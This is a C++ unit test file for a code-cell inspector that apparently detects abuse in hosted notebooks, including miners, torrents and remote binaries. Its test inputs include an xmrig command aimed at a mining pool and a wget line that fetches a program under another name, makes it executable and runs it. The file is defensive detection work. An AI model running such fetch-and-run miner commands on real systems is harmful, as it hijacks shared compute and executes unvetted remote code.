#include <doctest/doctest.h>

#include <algorithm>

#include "guard/features.h"
#include "guard/inspector.h"

using namespace stoa::guard;

namespace {

std::vector<std::string> features_of_cells(const std::vector<std::string>& cells) {
    Inspector inspector;
    std::vector<Fact> facts;
    for (std::size_t i = 0; i < cells.size(); ++i) std::ranges::move(inspector.inspect(cells[i], CellKind::code, static_cast<int>(i)).facts, std::back_inserter(facts));
    return features_of(facts);
}

bool has(const std::vector<std::string>& features, std::string_view feature) { return std::ranges::find(features, feature) != features.end(); }

}  // namespace

TEST_CASE("a name's words are told apart at humps, lines and dots") {
    CHECK(words_of_name("makeFace_swap2.now") == std::vector<std::string>{"make", "face", "swap", "now"});
    CHECK(words_of_name("HTTPServer") == std::vector<std::string>{"http", "server"});
    CHECK(words_of_name("a_1_") == std::vector<std::string>{});
}

TEST_CASE("arguments are known by their shape, whoever they belong to") {
    CHECK(shape_of("0x1234567890123456789012345678901234567890.rig1") == "wallet");
    CHECK(shape_of("pool.example.org:3333") == "host-port");
    CHECK(shape_of("203.0.113.7:80") == "address-port");
    CHECK(shape_of("stratum+tcp://pool.example.org") == "scheme.stratum+tcp");
    CHECK(shape_of("magnet:?xt=urn:btih:abc") == "magnet");
    CHECK(shape_of("?d?d?d?d") == "mask");
    CHECK(shape_of("\"video.MP4\"") == ".mp4");
    CHECK(shape_of("25565") == "port.25565");
    CHECK(shape_of("hello").empty());
    CHECK(shape_of("").empty());
}

TEST_CASE("what is only mentioned gives no features") {
    const auto features = features_of_cells({"# !xmrig -o pool.example.org:3333\nprint('xmrig torrent')"});
    CHECK_FALSE(has(features, "m:xmrig"));
    CHECK_FALSE(has(features, "w:torrent"));
}

TEST_CASE("the owner of a repository is no feature, its name's words are") {
    const auto features = features_of_cells({"!git clone https://github.com/someowner/face-changer.git"});
    CHECK(has(features, "b:face_changer"));
    CHECK(has(features, "h:github.com"));
    CHECK_FALSE(has(features, "w:someowner"));
}

TEST_CASE("a program that is fetched under another name and run is a trait of its own") {
    const auto features = features_of_cells({"!wget -O helper https://example.org/release/tool && chmod +x helper && ./helper -o pool.example.org:3333"});
    CHECK(has(features, "t:local-program-runs"));
    CHECK(has(features, "t:program-made-executable-runs"));
    CHECK(has(features, "t:only-commands"));
    CHECK(has(features, "s:host-port"));
}

TEST_CASE("features are sorted, each once, and bounded in length and number") {
    std::string code;
    for (int i = 0; i < 3000; ++i) code += "word" + std::string(1, static_cast<char>('a' + i % 26)) + std::string(i % 60, 'x') + "_thing(" + std::to_string(i) + ")\n";
    const auto features = features_of_cells({code});
    CHECK(std::ranges::is_sorted(features));
    CHECK(std::ranges::adjacent_find(features) == features.end());
    CHECK(features.size() <= max_features);
    CHECK(std::ranges::all_of(features, [](const std::string& one) { return one.size() <= max_feature_bytes && one.find(' ') == std::string::npos; }));
}
